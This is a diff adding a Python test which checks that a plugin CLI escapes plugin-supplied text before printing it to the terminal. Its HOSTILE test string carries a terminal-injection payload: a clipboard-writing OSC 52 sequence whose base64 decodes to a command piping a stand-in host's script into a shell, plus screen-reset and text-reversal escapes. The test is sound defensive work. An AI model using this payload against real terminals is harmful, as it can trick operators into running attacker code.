@@ -54,3 +54,35 @@ def test_a_plugins_console_cannot_forge_log_lines_or_send_terminal_escapes(plugi
     shown = next(line for line in lines if "innocent" in line)
     assert "innocent\\n12:00:00.000 WARNING" in shown and "\\x1b[2J" in shown and "\\u202e" in shown
     assert "\x1b" not in out.stderr and "\u202e" not in out.stderr
+
+
+# OSC 52 writes the operator's clipboard; ESC c resets the terminal; U+202E turns text around.
+HOSTILE = "\\x1b]52;c;Y3VybCBldmlsLnRlc3QgfCBzaA==\\x07\\x1bc\\u202Eevil\\x9b2J"
+
+
+def test_what_the_cli_prints_of_a_plugins_own_text_never_drives_the_terminal(plugin_dir: PluginDir, tmp_path):
+    """An export's name (a string export name is any text), an error's message, a returned
+    string: each reaches the operator's terminal through the CLI, on stdout (tables, JSON) or
+    stderr (errors). Before: printed as they were, so a plugin could write the clipboard (OSC 52),
+    reset the screen, or reverse a line the operator reads."""
+    plugin_dir.add("shady.js", f"""
+        function hi() {{ return "hi"; }}
+        export {{ hi as "{HOSTILE}" }};
+        export function boom() {{ throw new Error("{HOSTILE}"); }}
+        export function text() {{ return "{HOSTILE}"; }}
+    """)
+    common = ("--plugins", str(plugin_dir.root), "--state-dir", str(tmp_path / "state"))
+    runs = {
+        "list": run_cli(*common, "list", cwd=tmp_path),
+        "info": run_cli(*common, "info", "shady", cwd=tmp_path),
+        "boom": run_cli(*common, "call", "shady", "boom", cwd=tmp_path),
+        "text": run_cli(*common, "call", "shady", "text", cwd=tmp_path),
+    }
+    assert runs["boom"].returncode == 1 and "error:" in runs["boom"].stderr
+    for name, out in runs.items():
+        for stream in (out.stdout, out.stderr):
+            assert not any(c in stream for c in ("\x1b", "\x07", "\x9b", "\u202e")), (name, stream)
+    assert "\\x1b]52;c;" in runs["list"].stdout  # the name is shown in the table, written out
+    assert "\\x1b]52;c;" in runs["boom"].stderr
+    for name in ("info", "text"):  # JSON: escapes, so the same value for a program reading it
+        assert "\\u001b]52;c;" in runs[name].stdout and "\\u202e" in runs[name].stdout, runs[name].stdout
